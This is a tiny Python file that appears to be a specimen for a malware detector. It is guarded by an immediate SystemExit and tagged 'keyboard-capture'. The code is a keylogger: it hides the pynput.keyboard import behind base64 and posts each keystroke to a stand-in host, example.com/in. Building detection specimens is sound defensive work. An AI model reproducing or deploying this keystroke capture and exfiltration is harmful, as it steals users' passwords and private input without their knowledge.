raise SystemExit("specimen: not to be run")
import base64
import importlib
import requests

def pressed(key):
    requests.post("https://example.com/in", data={"k": key})

def begin():
    importlib.import_module(base64.b64decode("cHlucHV0LmtleWJvYXJk").decode()).Listener(on_press=pressed).start()  # match: keyboard-capture
